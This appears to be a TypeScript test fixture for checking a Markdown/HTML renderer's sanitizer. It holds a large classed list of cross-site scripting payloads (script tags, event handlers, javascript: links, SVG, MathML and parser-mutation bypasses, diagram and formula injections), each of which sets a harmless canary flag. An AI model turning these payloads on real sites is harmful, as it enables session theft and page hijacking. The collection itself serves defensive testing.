/** A text that runs `window.__canary = 1` wherever it is shown by something careless. */
export interface AttackVector {
  readonly name: string;
  readonly class: AttackClass;
  readonly text: string;
}

export type AttackClass =
  | 'script'
  | 'handler'
  | 'link'
  | 'image'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'comment'
  | 'frame'
  | 'form'
  | 'document'
  | 'style'
  | 'diagram'
  | 'formula'
  | 'code'
  | 'heading'
  | 'template'
  | 'structure';

const RUN = 'window.__canary=1';
const JS = `javascript:${RUN}`;
const IMG = `<img src=x onerror=${RUN}>`;
const SCRIPT = `<script>${RUN}</script>`;
const CHAR = { tab: '\t', newline: '\n', nul: '\0', bell: '\u0001', zeroWidth: '\u200b', lineSeparator: '\u2028' };

function vectors(kind: AttackClass, texts: Readonly<Record<string, string>>): AttackVector[] {
  return Object.entries(texts).map(([name, text]) => ({ name, class: kind, text }));
}

const SCRIPTS = vectors('script', {
  'script tag': SCRIPT,
  'script in capitals': `<SCRIPT>${RUN}</SCRIPT>`,
  'script inside a paragraph': `before ${SCRIPT} after`,
  'script inside a split script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script with a slash for a space': `<script/x>${RUN}</script>`,
  'script from elsewhere': '<script src="data:text/javascript,window.__canary=1"></script>',
  'script as module': `<script type="module">${RUN}</script>`,
  'script without an end': `<script>${RUN}`,
  'script end with attributes': `<script>${RUN}</script x>`,
  'script after a stray angle': `<<script>${RUN}//<</script>`,
  'script in a table cell': `| a |\n|---|\n| ${SCRIPT} |`,
  'script in a list': `- ${SCRIPT}`,
  'script in a quote': `> ${SCRIPT}`,
});

const HANDLERS = vectors('handler', {
  'picture that fails': IMG,
  'picture with quotes around the handler': `<img src="x" onerror="${RUN}">`,
  'handler without spaces': `<img/src=x/onerror=${RUN}>`,
  'handler after a quote': `<img src="x"onerror="${RUN}">`,
  'handler in capitals': `<IMG SRC=x OnErRoR=${RUN}>`,
  'handler written with entities': `<img src=x onerror="&#119;indow.__canary=1">`,
  'handler after a new line': `<img src=x\nonerror=${RUN}>`,
  'handler after a form feed': `<img src=x\u000conerror=${RUN}>`,
  'focus that comes by itself': `<a href="#" autofocus tabindex=1 onfocus="${RUN}">x</a>`,
  'details that open by themselves': `<details open ontoggle="${RUN}"><summary>x</summary>y</details>`,
  'video source that fails': `<video><source onerror="${RUN}" src="x"></video>`,
  'audio that starts': `<audio src="x" autoplay onloadstart="${RUN}" onerror="${RUN}"></audio>`,
  'moving text': `<marquee onstart="${RUN}">x</marquee>`,
  'animation that ends': `<p style="animation:x 1s" onanimationend="${RUN}" onanimationstart="${RUN}">x</p>`,
  'body that loads': `<body onload="${RUN}">`,
  'input that takes the focus': `<input autofocus onfocus="${RUN}">`,
  'checkbox that takes the focus': `<input type="checkbox" autofocus onfocus="${RUN}">`,
  'unknown element with a handler': `<xss onpointerover="${RUN}" onfocus="${RUN}" autofocus tabindex=1>x</xss>`,
  'popover that toggles': `<div popover onbeforetoggle="${RUN}">x</div>`,
});

const LINKS = vectors('link', {
  'link to a script': `[click](${JS})`,
  'link to a script in angles': `[click](<${JS}>)`,
  'link in mixed case': `[click](JaVaScRiPt:${RUN})`,
  'link with an entity in the scheme': `[click](java&#115;cript:${RUN})`,
  'link with the colon as entity': `[click](javascript&colon;${RUN})`,
  'link with a tab entity': `[click](java&Tab;script:${RUN})`,
  'link with a new-line entity': `[click](java&NewLine;script:${RUN})`,
  'link with an escaped colon': `[click](javascript\\:${RUN})`,
  'link with percent signs': '[click](javascript%3Awindow.__canary=1)',
  'link by reference': `[click][x]\n\n[x]: ${JS}`,
  'link by reference in angles': `[click][x]\n\n[x]: <java&#x0A;script:${RUN}>`,
  'autolink to a script': `<${JS}>`,
  'autolink to visual basic': '<vbscript:window.__canary=1>',
  'link to visual basic': '[click](vbscript:window.__canary=1)',
  'link to a data page': `[click](data:text/html,${encodeURIComponent(SCRIPT)})`,
  'link to a data page in base64': `[click](data:text/html;base64,${btoa(SCRIPT)})`,
  'anchor to a script': `<a href="${JS}">click</a>`,
  'anchor with a tab inside': `<a href="java${CHAR.tab}script:${RUN}">click</a>`,
  'anchor with a new line inside': `<a href="java${CHAR.newline}script:${RUN}">click</a>`,
  'anchor with a zero byte inside': `<a href="java${CHAR.nul}script:${RUN}">click</a>`,
  'anchor with a control character before': `<a href="${CHAR.bell}javascript:${RUN}">click</a>`,
  'anchor with spaces before': `<a href="  &#14; ${JS}">click</a>`,
  'anchor with an invisible space': `<a href="java${CHAR.zeroWidth}script:${RUN}">click</a>`,
  'anchor with a line separator': `<a href="${CHAR.lineSeparator}${JS}">click</a>`,
  'anchor with hexadecimal entities': `<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a${RUN}">click</a>`,
  'anchor without quotes': `<a href=${JS}>click</a>`,
  'anchor with two addresses': `<a href="#" href="${JS}">click</a>`,
  'anchor with a name space': `<a xlink:href="${JS}">click</a>`,
  'anchor that reports': `<a href="#" ping="${JS}" target="_top">click</a>`,
  'anchor to a blob': '<a href="blob:null/x">click</a>',
  'anchor to the source': `<a href="view-source:${JS}">click</a>`,
  'link title that ends the attribute': `[x](http://a.example '"onmouseover="${RUN}')`,
  'address that ends the attribute': `[x](http://a.example/"onmouseover="${RUN})`,
  'bare address that ends the attribute': `http://a.example/"onmouseover="${RUN}`,
});

const IMAGES = vectors('image', {
  'picture from a script': `![x](${JS})`,
  'alternative text that ends the attribute': `![x" onerror="${RUN}](x)`,
  'alternative text with a tag': `![${IMG}](x)`,
  'title that ends the attribute': `![x](x '" onerror="${RUN}')`,
  'picture of scripted vectors': `![x](data:image/svg+xml,${encodeURIComponent(`<svg onload=${RUN}>`)})`,
  'picture of scripted vectors in base64': `<img src="data:image/svg+xml;base64,${btoa(`<svg onload=${RUN}>`)}">`,
  'picture that is a page': `<img src="data:text/html,${encodeURIComponent(SCRIPT)}">`,
  'picture set': `<img srcset="${JS} 1x, x 2x" sizes="1px">`,
  'picture with old attributes': `<img dynsrc="${JS}" lowsrc="${JS}">`,
  'background of a table': `<table background="${JS}"><tr><td background="${JS}">x</td></tr></table>`,
  'poster of a video': `<video poster="${JS}" src="x"></video>`,
  'video from a script': `<video src="${JS}" autoplay></video>`,
  'picture map': `<img usemap="#m" src=x><map name="m"><area href="${JS}" shape="default"></map>`,
});

const SVG = vectors('svg', {
  'drawing that loads': `<svg onload="${RUN}"></svg>`,
  'drawing with a script': `<svg><script>${RUN}</script></svg>`,
  'drawing with a self-closing script': `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  'drawing with a link': `<svg><a xlink:href="${JS}"><text x=1 y=9>click</text></a></svg>`,
  'animated link': `<svg><a><animate attributeName=href values="${JS}"/><text y=9>click</text></a></svg>`,
  'animation that begins': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  'set that changes an address': `<svg><a><set attributeName="href" to="${JS}"/><text y=9>x</text></a></svg>`,
  'foreign object': `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  'drawing that uses another': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='${JS}'/></svg>#x"/></svg>`,
  'drawing with style text': `<svg><style>${IMG}</style></svg>`,
});

const MATHML = vectors('mathml', {
  'formula that is a link': `<math href="${JS}"><mi>click</mi></math>`,
  'formula with a name space': `<math xlink:href="${JS}"><mi>click</mi></math>`,
  'action in a formula': `<math><maction actiontype="statusline#x" xlink:href="${JS}">click</maction></math>`,
  'annotation that is a page': `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  'annotation with a script': `<math><semantics><mi>x</mi><annotation encoding="text/html">${SCRIPT}</annotation></semantics></math>`,
  'formula with a handler': `<math><mi onclick="${RUN}" onmouseover="${RUN}">x</mi></math>`,
  'text of a formula': `<math><mtext>${IMG}</mtext></math>`,
});

const MUTATIONS = vectors('mutation', {
  'noscript that ends in a title': `<noscript><p title="</noscript>${IMG}"></noscript>`,
  'style that ends in a title': `<style><p title="</style>${IMG}"></style>`,
  'page title that ends in a title': `<title><p title="</title>${IMG}"></title>`,
  'text area that ends in a title': `<textarea><p title="</textarea>${IMG}"></textarea>`,
  'example that ends in a title': `<xmp><p title="</xmp>${IMG}"></xmp>`,
  'frame text that ends in a title': `<iframe><p title="</iframe>${IMG}"></iframe>`,
  'noembed that ends in a title': `<noembed><p title="</noembed>${IMG}"></noembed>`,
  'noframes that ends in a title': `<noframes><p title="</noframes>${IMG}"></noframes>`,
  'glyph in a table in a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table>`,
  'style in a formula': `<math><style><img title="</style>${IMG}"></math>`,
  'paragraph in a drawing': `<svg></p><style><a id="</style>${IMG}">`,
  'forms inside forms': `<form><math><mtext></form><form><mglyph><style></math>${IMG}</form>`,
  'mark inside a formula': `<math><mi><malignmark><style><!--</style>${IMG}--></malignmark></mi></math>`,
  'annotation with a title': `<math><annotation-xml><style><p title="</style>${IMG}"></annotation-xml></math>`,
  'template with a script': `<template>${SCRIPT}<p title="</template>${IMG}"></template>`,
  'plain text to the end': `<plaintext>${IMG}`,
  'select that hides a tag': `<select><style></select>${IMG}</style>`,
  'deep nesting': `${'<div>'.repeat(600)}${IMG}${'</div>'.repeat(600)}`,
  'formulas inside each other': `${'<math><mtext>'.repeat(120)}<style>${IMG}</style>`,
});

const COMMENTS = vectors('comment', {
  'comment that ends early': `<!--> ${IMG} -->`,
  'comment with a dash that ends early': `<!---> ${IMG} -->`,
  'comment with a bang': `<!-- x --!> ${IMG} -->`,
  'comment inside a word': `a <!-- ${IMG} --> b`,
  'character data': `<![CDATA[ ${IMG} ]]>`,
  'character data in a formula': `<math><mtext><![CDATA[</mtext></math>${IMG}]]></mtext></math>`,
  'processing instruction': `<?xml version="1.0"?>${IMG}`,
  'processing instruction that ends early': `<?x >${IMG}?>`,
  'condition of an old browser': `<!--[if gte IE 4]>${SCRIPT}<![endif]-->`,
  declaration: `<!DOCTYPE x [<!ENTITY y "${RUN}">]>${IMG}`,
});

const FRAMES = vectors('frame', {
  'frame from a script': `<iframe src="${JS}"></iframe>`,
  'frame with its own page': `<iframe srcdoc="<script>parent.window.__canary=1</script>"></iframe>`,
  'object from a script': `<object data="${JS}"></object>`,
  'object that is a page': `<object data="data:text/html,${encodeURIComponent(SCRIPT)}"></object>`,
  'embedded script': `<embed src="${JS}">`,
  applet: `<applet code="${JS}"></applet>`,
  'frame set': `<frameset onload="${RUN}"><frame src="${JS}"></frameset>`,
  'portal and fenced frame': `<portal src="${JS}"></portal><fencedframe src="${JS}"></fencedframe>`,
});

const FORMS = vectors('form', {
  'form that sends to a script': `<form action="${JS}"><input type=submit value=click></form>`,
  'button that sends to a script': `<form><button formaction="${JS}">click</button></form>`,
  'picture button': `<input type="image" src="x" onerror="${RUN}" formaction="${JS}">`,
  'form of another place': `<form id=f></form><button form=f formaction="${JS}">click</button>`,
  'key that sends': `<a href="#" accesskey="x" onclick="${RUN}">x</a>`,
  'names that hide properties': `<form id="document"><input name="cookie"></form><img name="getElementById">`,
});

const DOCUMENTS = vectors('document', {
  'page that goes elsewhere': `<meta http-equiv="refresh" content="0;url=${JS}">`,
  'page that goes to data': `<meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(SCRIPT)}">`,
  'base of all addresses': `<base href="${JS}//">[x](x)`,
  'style sheet from a script': `<link rel="stylesheet" href="${JS}">`,
  'imported page': `<link rel="import" href="data:text/html,${encodeURIComponent(SCRIPT)}">`,
  'script loaded ahead': `<link rel="modulepreload" href="data:text/javascript,${RUN}" onload="${RUN}">`,
  'dialog over the page': `<dialog open onclose="${RUN}">x</dialog>`,
});

const STYLES = vectors('style', {
  'style sheet with an import': `<style>@import '${JS}';</style>`,
  'style with an address': `<p style="background:url(${JS})">x</p>`,
  'style with an expression': `<p style="width:expression(${RUN})">x</p>`,
  'style with a binding': `<p style="-moz-binding:url(data:text/xml,x)">x</p>`,
  'style over the whole page': `<a href="https://evil.example" style="position:fixed;inset:0">x</a>`,
  'style of a formula': `<math><mstyle style="position:fixed" mathbackground="url(${JS})"><mi>x</mi></mstyle></math>`,
});

const DIAGRAMS = vectors('diagram', {
  'label of a diagram': `\`\`\`mermaid\ngraph TD\nA["${IMG}"]\n\`\`\``,
  'click of a diagram': `\`\`\`mermaid\ngraph TD\nA-->B\nclick A "${JS}"\n\`\`\``,
  'callback of a diagram': '```mermaid\ngraph TD\nA-->B\nclick A call alert()\n```',
  'end of a diagram': `\`\`\`mermaid\n</pre>${SCRIPT}\n\`\`\``,
  'settings of a diagram': `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\nA["${IMG}"]\n\`\`\``,
  'diagram written as HTML': `<pre class="mermaid">graph TD\nA["&lt;img src=x onerror=${RUN}&gt;"]</pre>`,
});

const FORMULAS = vectors('formula', {
  'formula with a link': `$\\href{${JS}}{click}$`,
  'formula with an address': `$\\url{${JS}}$`,
  'formula with a picture': `$\\includegraphics{${JS}}$`,
  'formula with data': `$\\htmlData{x=y" onclick="${RUN}}{click}$`,
  'formula with a class': `$\\htmlClass{x" onclick="${RUN}}{click}$`,
  'formula with a style': '$\\htmlStyle{position:fixed}{click}$',
  'formula with an id': '$\\htmlId{document}{click}$',
  'formula with a tag': `$$\n\\text{${IMG}}\n$$`,
  'formula that is wrong': `$\\notacommand{<script>${RUN}</script>$`,
  'formula with a colour': `$\\color{red" onclick="${RUN}}x$`,
  'formula that repeats itself': '$\\def\\a{\\a\\a}\\a$',
});

const CODE = vectors('code', {
  'language that ends the attribute': `\`\`\`js"onclick="${RUN}\nx\n\`\`\``,
  'language that is a tag': `\`\`\`${IMG}\nx\n\`\`\``,
  'end of the block': `\`\`\`html\n</code></pre>${IMG}\n\`\`\``,
  'unknown language': `\`\`\`unknown\n${SCRIPT}\n\`\`\``,
  'inline code': `\`</code>${IMG}\``,
  'indented code': `    </code></pre>${IMG}`,
  'long code': `\`\`\`html\n${'x'.repeat(21_000)}</code></pre>${IMG}\n\`\`\``,
});

const HEADINGS = vectors('heading', {
  'heading with a tag': `# ${IMG}`,
  'heading that ends the id': `# x" onmouseover="${RUN}`,
  'heading with escaped tags in the contents list': `[TOC]\n\n# &lt;img src=x onerror=${RUN}&gt;`,
  'heading named like a property': '# __proto__\n\n# constructor\n\n# documentElement',
  'heading with its own id': `<h1 id="x" name="cookie" onclick="${RUN}">x</h1>`,
  'heading inside a heading': `<h1>a<h2>${IMG}</h1></h2>`,
  'contents list with more': `<nav class="toc" onclick="${RUN}">x</nav>`,
});

const TEMPLATES = vectors('template', {
  'double braces': "{{constructor.constructor('window.__canary=1')()}}",
  'dollar and brace': `$\{${RUN}}`,
  'percent signs': '<%= window.__canary=1 %>',
  'page data that ends its script': `</script>${SCRIPT}`,
  'attributes in braces': `# x {onclick="${RUN}"}\n\n[x](#){onmouseover="${RUN}"}`,
});

const STRUCTURE = vectors('structure', {
  'ends of elements that were not opened': `</div></article></main></body></html>${SCRIPT}`,
  'table that lets its content out': `<table><tr>${IMG}<td></table>`,
  'details with a script': `<details><summary>${IMG}</summary>\n\n${SCRIPT}\n\n</details>`,
  'alert with a tag': `> [!NOTE]\n> ${IMG}`,
  'alert of another kind': `> [!${IMG}]\n> x`,
  'task with a tag': `- [x] ${IMG}`,
  'attribute without an end': `<a href="x ${IMG}`,
  'byte order marks': `\ufeff<\ufeffscript>${RUN}</script>`,
  'wide angle brackets': `＜script＞${RUN}＜/script＞`,
  'half a surrogate pair': `\ud800<img src=x onerror=${RUN}>\udc00`,
  'old character set': `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
});

/** By class, so that a view which shows pages can be tried with all of them. */
export const ATTACK_VECTORS: readonly AttackVector[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...IMAGES,
  ...SVG,
  ...MATHML,
  ...MUTATIONS,
  ...COMMENTS,
  ...FRAMES,
  ...FORMS,
  ...DOCUMENTS,
  ...STYLES,
  ...DIAGRAMS,
  ...FORMULAS,
  ...CODE,
  ...HEADINGS,
  ...TEMPLATES,
  ...STRUCTURE,
];
